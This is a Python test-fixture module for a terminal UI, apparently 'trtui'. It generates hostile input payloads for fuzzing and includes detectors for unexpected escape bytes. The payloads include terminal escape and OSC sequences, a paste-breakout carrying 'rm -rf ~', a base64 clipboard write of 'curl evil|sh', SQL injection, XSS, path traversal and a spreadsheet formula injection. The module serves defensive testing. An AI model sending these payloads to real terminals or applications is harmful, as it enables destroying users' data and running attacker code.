"""Texts that nobody wishes to receive: what a customer, a name, a tag or an error message may hold.

Five classes, as terminals and programs suffer from them: T1 sequences that command a terminal, T2 sequences that make it
answer or act, T3 markup and templates, T4 text whose width or direction deceives, T5 masses.
Every payload carries `MARK`, plain letters by which a test sees that the text was drawn at all.
"""

import base64
import binascii
import itertools
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from trtui.ui.background import QUESTION

MARK: Final = "Zq7"
ESC: Final = "\x1b"
_CONTROLS: Final = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0)) if chr(c) != "\n"]
_ENDS: Final = ("\a", f"{ESC}\\", "\x9c", "")
_BEGINS: Final = (f"{ESC}]", "\x9d")


@dataclass(frozen=True)
class Payload:
    """One text, its class, and a name for messages."""

    kind: str
    name: str
    text: str


def payloads() -> list[Payload]:
    """All of them, each only once."""
    found = itertools.chain(_commands(), _requests(), _markup(), _deceptions(), _masses())
    return list({payload.text: payload for payload in found}.values())


def _commands() -> Iterator[Payload]:
    """T1: every control character alone, doubled and at the ends; CSI sequences with 7-bit and 8-bit introducers."""
    for control in _CONTROLS:
        yield Payload("T1", f"control {ord(control):02x}", f"{MARK}{control}x")
        yield Payload("T1", f"control {ord(control):02x} twice", f"{control}{MARK}{control}{control}[2J")
    bodies = (
        "2J", "H", "1;1H", "999;999H", "999B", "999A", "K", "1K", "J", "3J", "31m", "0m", "7m", "8m", "38;2;1;2;3m", "5m",
        "?1049h", "?1049l", "?25h", "?25l", "?7l", "?7h", "?1000h", "?1003h", "?2004h", "?2004l", "?1004h", "?5h",
        "1;5r", "r", "L", "M", "P", "@", "X", "S", "T", "b", "100b", "!p", "?3h", "20h", "4h", "4l", "s", "u", ">1u",
        "2 q", '0"q', "$p", "10;10;10;10$x", "8;100;100t", "22;0t", "23;0t", "14t", "q", "g", "3g", "I", "Z", "`", "E",
    )  # fmt: skip
    for body, begin in itertools.product(bodies, (f"{ESC}[", "\x9b")):
        yield Payload("T1", f"CSI {body!r}", f"{begin}{body}{MARK}")
    for letter in "78DEHMNOZ=>c#(FGlmno|}~":
        yield Payload("T1", f"ESC {letter}", f"a{ESC}{letter}8{MARK}")
    for words in ("^PM", "_APC", "XSOS", "PDCS", "k-title", "Ptmux;\x1b\x1b]52;c;ZXZpbA==\a"):
        yield Payload("T1", f"string {words[:3]!r}", f"{MARK}{ESC}{words}{ESC}\\")


def _requests() -> Iterator[Payload]:
    """T2: what makes the terminal answer (into the composer), copy, rename, notify, link or open."""
    for request in (
        "c",
        "0c",
        ">c",
        ">q",
        "=c",
        "5n",
        "6n",
        "?6n",
        "?996n",
        "18t",
        "20t",
        "21t",
        "?u",
        "x",
        "?25$p",
        "?2026$p",
    ):
        yield Payload("T2", f"asks {request!r}", f"{MARK}{ESC}[{request}")
    bodies = (
        "0;owned", "1;owned", "2;owned", "4;1;rgb:00/00/00", "4;1;?", "7;file:///etc", "8;;http://evil.example/",
        "8;id=1;javascript:x", "9;owned", "9;4;3;50", "10;?", "11;#000000", "11;?", "12;?", "22;wait", "50;font",
        "52;c;Y3VybCBldmlsfHNoCg==", "52;p;?", "52;;!", "60", "66;s=7;big", "99;i=1;owned", "104", "110", "111",
        "133;C;", "633;E;rm", "777;notify;owned;you", "1337;File=inline=1:AAAA", "1337;SetMark", "1337;CopyToClipboard=",
        "5522;type=write", "L", "lname", "Rred",
    )  # fmt: skip
    for body, begin, end in itertools.product(bodies, _BEGINS, _ENDS):
        yield Payload("T2", f"OSC {body!r} {begin!r} {end!r}", f"{begin}{body}{end}{MARK}")
    for body in ("$qm", "+q544e", "1$r", "q#0;2;0;0;0~", "=1s", "0;0|17/ab"):
        yield Payload("T2", f"DCS {body!r}", f"{ESC}P{body}{ESC}\\{MARK}")
        yield Payload("T2", f"C1 DCS {body!r}", f"\x90{body}\x9c{MARK}")
    yield Payload("T2", "kitty graphics", f"{ESC}_Ga=T,f=100;AAAA{ESC}\\{MARK}")
    yield Payload("T2", "a paste that ends itself", f"{MARK}{ESC}[201~rm -rf ~\r")
    yield Payload("T2", "utf-8 of C1", f"{MARK}" + "\x9b".encode().decode() + "31m")


def _markup() -> Iterator[Payload]:
    """T3: what is markup, template, format or link to something on the way."""
    texts = (
        "[b]", "[/b]", "[/]", "[", "]", "[[", "\\[b]", "[bold red]x", "[@click=app.quit]x[/]", "[@click=app.send_money(500)]x[/]",
        "[link=https://evil.example]x[/link]", "[on red]", "[$primary]x", "[not a tag]", "[#ff0000]x[/]", "[1]", "[/foo]",
        "[b", "b]", "[link=", ":smile:", ":skull:", "{name}", "{0}", "{{", "}}", "%s", "%n", "%(x)s", "$HOME", "`id`",
        "<b>x</b>", "<script>alert(1)</script>", "&amp;", "&#27;[31m", "\\x1b[31m", "\\033[31m", "\\u001b[31m", "^[[31m",
        "'; DROP TABLE message; --", '" OR 1=1', "../../etc/passwd", "file:///etc/passwd", "javascript:alert(1)", "# heading",
        "**bold**", "![x](http://evil.example/x.png)", "[x](javascript:x)", "=cmd|' /C calc'!A0", "\\", "\\\\", "null", "None", "-e", "--help",
    )  # fmt: skip
    for text in texts:
        yield Payload("T3", f"markup {text!r}", f"{text} {MARK}")


def _deceptions() -> Iterator[Payload]:
    """T4: bidi, invisible, wide, joined, marked, broken."""
    points = (
        *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x061C, 0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4,
        0x180E, 0x2028, 0x2029, 0x2800, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF,
        0xE000, 0xF8FF, 0x1D173, 0x1FFFE, 0xE0001, 0xE0041, 0xE0100, 0xF0000, 0x10FFFF, 0xFE00, 0xFE0E, 0xFE0F, 0x0378,
    )  # fmt: skip
    for point in points:
        yield Payload("T4", f"U+{point:04X}", f"$1{chr(point)}00 {MARK}")
        yield Payload("T4", f"U+{point:04X} first", f"{chr(point)}{MARK}")
    for surrogate in ("\ud800", "\udfff", "\udc1b", "\udcff", "\ud83d", "\ude00\ud83d"):
        yield Payload("T4", f"surrogate {surrogate!r}", f"{MARK}{surrogate}[31m")
    texts = (
        "\u202e00.5$", "\u2067abc\u2069", "א\u202eב", "مرحبا", "שלום", "❤️", "❤", "1️⃣", "👍🏽", "🏳️‍🌈", "👨‍👩‍👧‍👦", "🇺🇸", "🇺", "🇺🇸🇺",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🏴\U000e0067\U000e0062", "नमस्ते", "தமிழ்", "ไทย", "한국어", "ᄒ\u1161ᆫ",
        "漢字", "ｆｕｌｌ", "ﷺ", "𒐫", "꧅", "e\u0301", "\u0301", "a\u20e3", "‍", "‍‍a", "a‍", "️", "👩‍", "\ufdfd" * 5,
        "⌚", "☎", "☎️", "☎︎", "㊗", "㊗️", "Ǆ", "ß", "İ", "\U0001f1e6" * 7, "🫠", "🪿", "\u0e33", "\u0f77", "ก็็็็็็",
    )  # fmt: skip
    for text in texts:
        yield Payload("T4", f"text {text[:6]!r}", f"{text}{MARK}{text}")


def _masses() -> Iterator[Payload]:
    """T5: more than anybody draws."""
    yield Payload("T5", "zalgo", "Z" + "\u0301\u0316\u0489" * 3_000 + MARK)
    yield Payload("T5", "100,000 letters", MARK + "a" * 100_000)
    yield Payload("T5", "100,000 accents", MARK + "e" + "\u0301" * 100_000)
    yield Payload("T5", "20,000 lines", MARK + "\nline" * 20_000)
    yield Payload("T5", "20,000 CR", MARK + "\r\n" * 20_000)
    yield Payload("T5", "a megabyte", MARK + "word " * 200_000)
    yield Payload("T5", "joined emoji", MARK + "👩\u200d" * 5_000)
    yield Payload("T5", "escapes", MARK + f"{ESC}[31m" * 20_000)
    yield Payload("T5", "brackets", MARK + "[b]" * 20_000)
    yield Payload("T5", "spaces", MARK + " " * 50_000 + "x")
    yield Payload("T5", "invisible", MARK + "\u200b" * 50_000)
    yield Payload("T5", "nothing but newlines", "\n" * 5_000 + MARK)
    yield Payload("T5", "wide", MARK + "漢" * 30_000)


# ------------------------------------------------------------------------------------------- what a terminal may be sent

#: What this program itself sends: cursor and column, forward, styles, sync, modes at start and end, links to http(s).
_OURS: Final = re.compile(
    rb"\x1b\[\d*(?:;\d+)?H|\x1b\[\d+[GC]|\x1b\[[\d;]*m|\x1b\[\?\d+(?:;\d+)*[hl]|\x1b\[\?\d+\$p|\x1b\[[<>][\d;]*u|\x1b\[22;2t|\x1b\[23;2t"
    rb"|\x1b\]8;;(?:https?://[!-~]+)?\x1b\\|\x1b\]22;[a-z-]*\x07"
)
_STRAY: Final = re.compile(
    rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]"  # C0, DEL, C1 as UTF-8
    rb"|\xe2\x80[\x8b\x8e\x8f\xa8-\xae]|\xe2\x81[\xa0-\xaf]|\xef\xbb\xbf|\xd8\x9c|\xf3\xa0\x80\x81|\xed[\xa0-\xbf]"
)


def hostile_bytes(data: bytes) -> list[bytes]:
    """What a terminal was sent that this program did not mean: sequences it never uses, controls, bidi, surrogates."""
    rest = _OURS.sub(b"", data)
    return [rest[max(0, found.start() - 5) : found.end() + 20] for found in _STRAY.finditer(rest)]


_SAID: Final = re.compile(rb"\x1b\](2|9|52);([^\x07\x1b]*)(?:\x07|\x1b\\)")


def hostile_bytes_of_program(data: bytes) -> list[bytes]:
    """The same of the whole program, which also sets a title, notifies and copies: its own words, and nothing that acts."""
    data = data.replace(
        QUESTION.encode(), b"", 1
    )  # asked once, at the start: who asks again is not the program
    foreign = [found.group() for found in _SAID.finditer(data) if not _is_said_by_us(*found.groups())]
    return foreign + hostile_bytes(_SAID.sub(b"", data))


def _is_said_by_us(kind: bytes, body: bytes) -> bool:
    if kind == b"52":
        try:
            copied = base64.b64decode(body.removeprefix(b"c;"), validate=True).decode()
        except (binascii.Error, UnicodeDecodeError):
            return False
        return all(line.isprintable() or "\u200d" in line for line in copied.split("\n"))
    words = body.decode(errors="replace")
    is_ours = words.endswith("trtui") if kind == b"2" else words.startswith("trtui: ")
    return is_ours and words.replace("\u200d", "").isprintable()
